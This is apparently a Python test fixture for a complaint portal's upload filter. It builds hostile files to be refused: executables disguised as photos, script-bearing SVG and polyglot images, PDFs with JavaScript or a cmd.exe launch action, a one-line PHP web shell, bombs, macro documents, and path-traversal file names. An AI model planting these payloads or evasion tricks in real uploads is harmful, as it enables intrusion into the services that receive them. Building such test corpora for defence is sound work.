"""Hostile uploads, generated: nothing binary is committed. Each entry of `HOSTILE` is
(name, content builder, what `aduan.reports.attachments` must answer: the refusal code).

Builders are functions (some files are large or slow to make) and are cached."""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.portal import jpeg_with_gps, pdf_bytes, png_bytes

SCRIPT = b"<script>alert(document.domain)</script>"


def _zip(entries: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(extra: dict | None = None) -> bytes:
    """A minimal OOXML word document (what `filetype` recognises as DOCX)."""
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            "word/_rels/document.xml.rels": "<Relationships/>",
            **(extra or {}),
        }
    )


def elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + b"\x00" * 200


def pe() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00"
        + b"\x00" * 52
        + b"This program cannot be run in DOS mode.\r\n"
        + b"\x00" * 200
    )


def jar() -> bytes:
    return _zip(
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: A\n",
            "A.class": b"\xca\xfe\xba\xbe",
        }
    )


def svg(script: bool) -> bytes:
    body = "<script>alert(1)</script>" if script else ""
    onload = "" if script else ' onload="alert(1)"'
    return (
        '<?xml version="1.0"?>'
        f'<svg xmlns="http://www.w3.org/2000/svg"{onload} width="10" height="10">'
        f'{body}<rect width="10" height="10"/></svg>'
    ).encode()


def gif_js() -> bytes:
    """GIF89a/*...*/=alert(1); — a GIF whose width bytes open a JS comment: run as a script it
    alerts."""
    out = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(out, format="GIF")  # width 10799 = b"/*" little-endian
    data = out.getvalue()
    assert data[6:8] == b"/*"
    return data + b"*/=alert(document.domain);"


def _pdf_writer() -> PdfWriter:
    from pypdf import PdfReader

    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict) -> bytes:
    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
            for k, v in action.items()
        }
    )
    return _written(writer)


def pdf_javascript() -> bytes:
    return _open_action({"/S": "/JavaScript", "/JS": "app.alert('x');"})


def pdf_launch() -> bytes:
    return _open_action({"/S": "/Launch", "/F": "cmd.exe"})


def pdf_embedded_file() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("faktur.exe", pe())
    return _written(writer)


def pdf_obfuscated_javascript() -> bytes:
    """`/J#61vaScript` is `/JavaScript` to a PDF reader; a byte search for "JavaScript" misses
    it."""
    data = pdf_javascript()
    assert b"/JavaScript" in data and b"/JS" in data
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def _png(width: int, height: int, bit_depth: int, color_type: int, channels: int = 1) -> bytes:
    """A whole, valid PNG of zeros, never held inflated: one block of rows is deflated once and its
    bytes repeated (a full flush makes each copy stand alone), then the zlib checksum is
    computed."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = b"\x00" + bytes((width * bit_depth * channels + 7) // 8)
    assert height % 1000 == 0
    block = row * 1000
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(height // 1000):
        checksum = zlib.adler32(block, checksum)
    stream = (
        b"\x78\xda" + repeated * (height // 1000) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    )
    stream += struct.pack(">I", checksum)
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")
    )


def png_bomb() -> bytes:
    return _png(50_000, 50_000, 1, 0)  # 2.5 gigapixels in a few hundred KB


def png_too_many_pixels() -> bytes:
    return _png(8_000, 6_000, 8, 2, 3)  # 48 megapixels: under Pillow's own alarm, over Aduan's


def docx_bomb() -> bytes:
    return docx({"word/media/padding.xml": b"\x00" * (30 * 1024 * 1024)})


def docx_nested() -> bytes:
    inner = _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": "<workbook/>",
            "xl/embeddings/deeper.docx": docx(),
        }
    )
    return docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner})


def jpeg(**kwargs) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (90, 140, 60)).save(out, format="JPEG", **kwargs)
    return out.getvalue()


CORPUS = {
    # name: (file name, builder, refusal code)
    "elf_as_jpg": ("foto.jpg", elf, "type"),
    "pe_as_pdf": ("surat.pdf", pe, "type"),
    "zip_as_jpg": ("foto.jpg", lambda: _zip({"baca.txt": "isi"}), "type"),
    "jar_as_pdf": ("surat.pdf", jar, "type"),
    "svg_script": ("gambar.svg", lambda: svg(script=True), "type"),
    "svg_onload_as_png": ("gambar.png", lambda: svg(script=False), "type"),
    "html_as_jpg": ("foto.jpg", lambda: b"<!doctype html><html><body>" + SCRIPT, "type"),
    "jpeg_with_zip": (
        "foto.jpg",
        lambda: jpeg() + _zip({"shell.php": "<?php system($_GET['c']);"}),
        "polyglot",
    ),
    "jpeg_with_html": ("foto.jpg", lambda: jpeg() + b"<html><body>" + SCRIPT, "polyglot"),
    "jpeg_script_in_comment": ("foto.jpg", lambda: jpeg(comment=SCRIPT), "polyglot"),
    "png_with_zip": ("layar.png", lambda: png_bytes() + _zip({"a.js": "alert(1)"}), "polyglot"),
    "gif_js": ("animasi.gif", gif_js, "polyglot"),
    "pdf_javascript": ("surat.pdf", pdf_javascript, "active_pdf"),
    "pdf_obfuscated_javascript": ("surat.pdf", pdf_obfuscated_javascript, "active_pdf"),
    "pdf_launch": ("surat.pdf", pdf_launch, "active_pdf"),
    "pdf_embedded_file": ("surat.pdf", pdf_embedded_file, "active_pdf"),
    "png_bomb": ("peta.png", png_bomb, "bomb"),
    "png_too_many_pixels": ("peta.png", png_too_many_pixels, "bomb"),
    "docx_bomb": ("surat.docx", docx_bomb, "bomb"),
    "docx_nested": ("surat.docx", docx_nested, "nested"),
    "docx_macro": (
        "surat.docx",
        lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "macro",
    ),
    "docx_external_template": (
        "surat.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": (
                    '<Relationships><Relationship Id="r1" '
                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    'relationships/attachedTemplate" Target="http://penyerang.invalid/t.dotm" '
                    'TargetMode="External"/>'
                    "</Relationships>"
                )
            }
        ),
        "macro",
    ),
    "ole_doc": ("surat.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "type"),
    "truncated_jpeg": ("foto.jpg", lambda: jpeg_with_gps((300, 200))[:-400], "truncated"),
    "truncated_png": ("layar.png", lambda: png_bytes((200, 200))[:-30], "truncated"),
    "truncated_pdf": ("surat.pdf", lambda: pdf_bytes()[:-60], "truncated"),
    "zero_bytes": ("kosong.jpg", lambda: b"", "empty"),
}
# Names that are refused whatever the content (a valid photo here). Multipart parsing (every form,
# the API's `files`) already cuts the path and drops non-printable characters before any view sees
# the name; the JSON API passes names as sent. See `NAME_AFTER_MULTIPART`.
NAMES = {
    "path_traversal": "../../etc/passwd.jpg",
    "windows_traversal": "..\\..\\windows\\win.ini.jpg",
    "nul": "foto.php\x00.jpg",
    "rtl_override": "foto\u202egpj.exe",
    "very_long": "a" * 300 + ".jpg",
}
NAME_AFTER_MULTIPART = {
    "path_traversal": "passwd.jpg",
    "windows_traversal": "win.ini.jpg",
    "nul": "foto.php.jpg",
    "rtl_override": "fotogpj.jpg",
    "very_long": None,  # still longer than 200 after Django's 255 cut: refused
}


@functools.cache
def content(case: str) -> bytes:
    return CORPUS[case][1]()


# --- identity-bearing files (issue 11 §4) -----------------------------------------------------
# One file of every accepted type that names its author, their account, their device and where
# they were, the way real programs and phones write it. `IDENTITY_MARKS` must all be gone from
# what Aduan stores (`tests/test_file_identity.py`, `tests/test_identity_e2e.py`).

AUTHOR = "Gusti Ayu Purnamasari"
ACCOUNT = "purnamasari@contoh.id"
DEVICE = "KameraRahasia-X9"
PLACE = "+08.4950+117.4200"  # ISO 6709, as phones write it
FOLDER = r"C:\Users\purnamasari\Documents"
IDENTITY_MARKS = [AUTHOR, "Purnamasari", ACCOUNT, DEVICE, PLACE, "purnamasari", "SERIAL-12345"]


def _office_photo() -> bytes:
    return jpeg_with_gps()


def _core_xml() -> str:
    return (
        '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
        'package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy>"
        "</cp:coreProperties>"
    )


def _app_xml() -> str:
    return f"<Properties><Company>{AUTHOR}</Company><Manager>{ACCOUNT}</Manager></Properties>"


def _custom_xml() -> str:
    return (
        '<Properties><property name="Pemilik">'
        f"<vt:lpwstr>{ACCOUNT}</vt:lpwstr></property></Properties>"
    )


def identity_docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": (
                '<w:document><w:body><w:p><w:ins w:id="1" w:author="'
                + AUTHOR
                + '" w:date="2026-03-02T10:00:00Z"><w:r><w:t>Jalan rusak</w:t></w:r></w:ins>'
                "</w:p></w:body></w:document>"
            ),
            "word/_rels/document.xml.rels": "<Relationships/>",
            "word/comments.xml": f'<w:comments><w:comment w:id="0" w:author="{AUTHOR}" '
            f'w:initials="GAP"><w:p><w:r><w:t>cek</w:t></w:r></w:p></w:comment></w:comments>',
            "word/people.xml": f'<w15:people><w15:person w15:author="{AUTHOR}"><w15:presenceInfo '
            f'w15:providerId="AD" w15:userId="{ACCOUNT}"/></w15:person></w15:people>',
            "word/media/image1.jpeg": _office_photo(),
            "docProps/core.xml": _core_xml(),
            "docProps/app.xml": _app_xml(),
            "docProps/custom.xml": _custom_xml(),
        }
    )


def identity_xlsx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": '<workbook><mc:AlternateContent><x15ac:absPath url="'
            + FOLDER
            + '" xmlns:x15ac="x"/></mc:AlternateContent><fileSharing userName="'
            + AUTHOR
            + '"/></workbook>',
            "xl/_rels/workbook.xml.rels": "<Relationships/>",
            "xl/comments1.xml": (
                f"<comments><authors><author>{AUTHOR}</author></authors></comments>"
            ),
            "xl/persons/person.xml": f'<personList><person displayName="{AUTHOR}" id="{{1}}" '
            f'userId="{ACCOUNT}" providerId="AD"/></personList>',
            "xl/revisions/revisionHeaders.xml": f'<headers><header userName="{AUTHOR}"/></headers>',
            "xl/media/image1.jpeg": _office_photo(),
            "docProps/core.xml": _core_xml(),
            "docProps/app.xml": _app_xml(),
        }
    )


def identity_pptx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "ppt/presentation.xml": "<p:presentation/>",
            "ppt/_rels/presentation.xml.rels": "<Relationships/>",
            "ppt/commentAuthors.xml": f'<p:cmAuthorLst><p:cmAuthor id="1" name="{AUTHOR}" '
            f'initials="GAP" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>',
            "ppt/authors.xml": f'<p188:authorLst><p188:author id="{{1}}" name="{AUTHOR}" '
            f'initials="GAP" userId="{ACCOUNT}" providerId="AD"/></p188:authorLst>',
            "ppt/media/image1.jpeg": _office_photo(),
            "docProps/core.xml": _core_xml(),
            "docProps/app.xml": _app_xml(),
        }
    )


def identity_odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr(
            "META-INF/manifest.xml",
            "<manifest:manifest "
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type='
            '"application/vnd.oasis.opendocument.text"/></manifest:manifest>',
        )
        archive.writestr(
            "meta.xml",
            f"<office:document-meta><office:meta><meta:initial-creator>{AUTHOR}"
            f"</meta:initial-creator><dc:creator>{AUTHOR}</dc:creator><meta:generator>"
            f"{DEVICE}</meta:generator></office:meta></office:document-meta>",
        )
        archive.writestr(
            "content.xml",
            f"<office:document-content><office:text><text:p><office:annotation><dc:creator>"
            f"{AUTHOR}</dc:creator><text:p>cek</text:p></office:annotation>Jalan rusak</text:p>"
            f"<text:tracked-changes><text:changed-region><text:insertion><office:change-info>"
            f"<dc:creator>{AUTHOR}</dc:creator></office:change-info></text:insertion>"
            f"</text:changed-region></text:tracked-changes></office:text>"
            f"</office:document-content>",
        )
        archive.writestr("Pictures/photo.jpg", _office_photo())
    return out.getvalue()


def identity_pdf() -> bytes:
    from fpdf import FPDF
    from pypdf import PdfReader
    from pypdf.annotations import Text

    pdf = FPDF()
    pdf.add_page()
    pdf.set_author(AUTHOR)
    pdf.set_creator(DEVICE)
    pdf.set_font("helvetica", size=12)
    pdf.cell(0, 10, "Surat pengantar")
    pdf.image(io.BytesIO(_office_photo()), x=10, y=30, w=40)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(bytes(pdf.output()))))
    writer.add_annotation(0, Text(text="cek di sini", rect=(50, 50, 70, 70)))
    writer.pages[0]["/Annots"][0].get_object()[NameObject("/T")] = TextStringObject(AUTHOR)
    writer.add_metadata({"/Author": AUTHOR, "/Producer": DEVICE})
    xmp = (
        f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description><dc:creator>{AUTHOR}'
        f"</dc:creator><exif:GPSLatitude>{PLACE}</exif:GPSLatitude></rdf:Description></rdf:RDF>"
        "</x:xmpmeta>"
    ).encode()
    from pypdf.generic import StreamObject

    stream = StreamObject()
    stream.set_data(xmp)
    stream.update({NameObject("/Type"): NameObject("/Metadata"),
                   NameObject("/Subtype"): NameObject("/XML")})  # fmt: skip
    writer._root_object[NameObject("/Metadata")] = writer._add_object(stream)
    return _written(writer)


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def identity_mp4() -> bytes:
    """An MP4 as a phone writes it: a top-level `uuid` XMP box with creator and GPS, the place and
    device in `moov/udta`, and the same in the track's `udta` and a `meta` box deeper down."""
    xmp = f"<x:xmpmeta><dc:creator>{AUTHOR}</dc:creator><exif:GPS>{PLACE}</exif:GPS></x:xmpmeta>"
    udta = _box(b"udta", _box(b"\xa9xyz", PLACE.encode()) + _box(b"\xa9mod", DEVICE.encode()))
    meta = _box(b"meta", b"\x00\x00\x00\x00" + _box(b"ilst", AUTHOR.encode()))
    trak = _box(
        b"trak",
        _box(b"tkhd", bytes(84)) + udta + _box(b"mdia", _box(b"minf", meta + _box(b"stbl", b""))),
    )
    moov = _box(b"moov", _box(b"mvhd", bytes(100)) + trak + udta)
    return (
        _box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41")
        + _box(
            b"uuid",
            b"\xbe\x7a\xcf\xcb\x97\xa9\x42\xe8\x9c\x71\x99\x94\x91\xe3\xaf\xac" + xmp.encode(),
        )
        + moov
        + _box(b"mdat", bytes(64))
    )


def _ebml(element_id: int, payload: bytes) -> bytes:
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    size = len(payload)
    return id_bytes + (size | (1 << 56)).to_bytes(8, "big") + payload


def identity_webm(open_cluster: bool = False) -> bytes:
    """A WebM with the author in its Tags and Title, the device as its writing application; with
    `open_cluster` its cluster has an unknown size, as a browser's live recording writes it."""
    # The EBML header with one-byte sizes, as every writer makes it (and `filetype` reads it).
    fields = [(0x4286, b"\x01"), (0x42F7, b"\x01"), (0x42F2, b"\x04"), (0x42F3, b"\x08"),
              (0x4282, b"webm"), (0x4287, b"\x04"), (0x4285, b"\x02")]  # fmt: skip
    body = b"".join(i.to_bytes(2, "big") + bytes([0x80 | len(v)]) + v for i, v in fields)
    header = b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(body)]) + body
    info = _ebml(
        0x1549A966,
        _ebml(0x2AD7B1, b"\x0f\x42\x40")
        + _ebml(0x7BA9, AUTHOR.encode())
        + _ebml(0x4D80, DEVICE.encode())
        + _ebml(0x5741, (DEVICE + " " + ACCOUNT).encode()),
    )
    tracks = _ebml(0x1654AE6B, _ebml(0xAE, _ebml(0xD7, b"\x01") + _ebml(0x86, b"V_VP8")))
    cluster_body = _ebml(0xE7, b"\x00") + _ebml(0xA3, b"\x81\x00\x00\x80" + bytes(16))
    if open_cluster:
        cluster = b"\x1f\x43\xb6\x75\x01\xff\xff\xff\xff\xff\xff\xff" + cluster_body
    else:
        cluster = _ebml(0x1F43B675, cluster_body)
    tags = _ebml(
        0x1254C367,
        _ebml(0x7373, _ebml(0x67C8, _ebml(0x45A3, b"ARTIST") + _ebml(0x4487, AUTHOR.encode()))
              + _ebml(0x67C8, _ebml(0x45A3, b"LOCATION") + _ebml(0x4487, PLACE.encode()))),
    )  # fmt: skip
    segment = info + tracks + cluster + tags
    return header + _ebml(0x18538067, segment)


IDENTITY = {
    "laporan.docx": identity_docx,
    "tabel.xlsx": identity_xlsx,
    "paparan.pptx": identity_pptx,
    "surat.odt": identity_odt,
    "surat.pdf": identity_pdf,
    "video.mp4": identity_mp4,
    "video.webm": identity_webm,
    "rekaman.webm": lambda: identity_webm(open_cluster=True),
    "foto.jpg": jpeg_with_gps,
}
